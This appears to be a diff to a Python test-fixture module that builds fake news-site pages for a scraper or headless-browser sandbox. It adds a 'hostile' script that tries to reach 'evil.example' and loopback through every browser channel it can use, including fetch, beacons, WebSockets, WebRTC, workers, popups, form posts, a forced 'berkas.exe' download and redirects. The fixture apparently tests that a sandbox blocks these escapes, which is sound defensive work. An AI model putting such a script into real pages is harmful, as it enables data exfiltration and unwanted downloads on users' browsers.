@@ -24,6 +24,14 @@ WAYS = {
         document.querySelector(".consent-reject").onclick = e => { e.target.parentNode.remove(); load(); };
         document.querySelector(".consent-accept").onclick = () => { show("<h1>Diterima</h1>"); };
     """,
+    "heavy": """
+        document.body.insertAdjacentHTML("beforeend", '<img src="/assets/foto.jpg"><video src="/assets/film.mp4"></video>'
+            + '<iframe src="/bingkai"></iframe>'
+            + '<style>@font-face{font-family:x;src:url(/assets/huruf.woff2)} body{font-family:x}</style>');
+        for (const src of ["/ads/iklan.js", "https://iklan.example/gpt.js", "/admin/rahasia.js"])
+            document.body.append(Object.assign(document.createElement("script"), {src}));
+        load();
+    """,
     "endless": "setTimeout(() => { while (true); }, 100);",
 }
 """How the text comes."""
@@ -33,7 +41,8 @@ def shell(script: str, more: str = "") -> Page:
     """A page without title and text."""
     html = (
         '<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><title>SINDOnews</title></head><body>'
-        f'<div id="app">Memuat …</div>{more}<script src="/assets/app.js"></script><script>{script}</script></body></html>'
+        f'<div id="app">Memuat …</div>{more}'
+        f'<script src="/assets/app.js"></script><script>{script}</script></body></html>'
     )
     return Page(html.encode())
 
@@ -67,10 +76,15 @@ more();
 """
 SCROLL = """
 let n = 0, busy = false;
-const more = () => { if (busy) return; busy = true; fetch("/api/list/" + n++).then(r => r.json()).then(r => {
-    document.getElementById("app").insertAdjacentHTML("beforeend", '<div style="min-height:1500px">' + r.html + "</div>");
-    busy = !r.more;
-}); };
+const more = () => {
+    if (busy) return;
+    busy = true;
+    fetch("/api/list/" + n++).then(r => r.json()).then(r => {
+        const html = '<div style="min-height:1500px">' + r.html + "</div>";
+        document.getElementById("app").insertAdjacentHTML("beforeend", html);
+        busy = !r.more;
+    });
+};
 addEventListener("scroll", () => { if (innerHeight + scrollY >= document.body.scrollHeight - 10) more(); });
 more();
 """
@@ -90,3 +104,48 @@ def growing(stories: list[Story], *, by: str) -> Pages:
             json.dumps({"html": links, "more": more}).encode(), 200, JSON
         )
     return pages
+
+
+def hostile(port: int) -> str:
+    """A script that tries to get out: to other hosts by name and by address (`port` on loopback), with every means."""
+    return (
+        """
+        const here = "127.0.0.1:PORT", evil = "evil.example";
+        for (const at of [here, "localhost:PORT", evil]) {
+            fetch("http://" + at + "/fetch", {mode: "no-cors"}).catch(() => 0);
+            navigator.sendBeacon("http://" + at + "/beacon", "x");
+            new WebSocket("ws://" + at + "/socket");
+            new EventSource("http://" + at + "/events");
+            for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["object", "data"]])
+                document.body.append(Object.assign(document.createElement(tag), {[name]: "http://" + at + "/" + tag}));
+            for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet"])
+                document.head.append(Object.assign(document.createElement("link"),
+                    {rel, as: "fetch", href: "http://" + at + "/" + rel}));
+            const peer = new RTCPeerConnection({iceServers: [{urls: "stun:" + at}]});
+            peer.createDataChannel("x");
+            peer.createOffer().then(offer => peer.setLocalDescription(offer));
+            const code = "fetch('http://" + at + "/worker'); new WebSocket('ws://" + at + "/worker')";
+            new Worker(URL.createObjectURL(new Blob([code])));
+            window.open("http://" + at + "/popup");
+            const form = Object.assign(document.createElement("form"), {action: "http://" + at, method: "post"});
+            document.body.append(form);
+            form.submit();
+        }
+        navigator.serviceWorker.register("/sw.js").catch(() => 0);
+        fetch("/leads-away").catch(() => 0);
+        const file = URL.createObjectURL(new Blob(["berkas"]));
+        Object.assign(document.createElement("a"), {href: file, download: "berkas.exe"}).click();
+        Object.assign(document.createElement("a"), {href: "/berkas.zip", download: "berkas.zip"}).click();
+        setTimeout(() => { location = "http://" + evil + "/gone"; }, 100);
+        setTimeout(() => { location = "http://" + here + "/gone"; }, 200);
+        setTimeout(() => { location.reload(); }, 300);
+        setTimeout(load, 500);
+        """
+    ).replace("PORT", str(port))
+
+
+LEADS_AWAY = {
+    "https://international.sindonews.com/leads-away": Page(
+        b"", 302, {"Content-Type": "text/html", "Location": "https://evil.example/away"}
+    )
+}
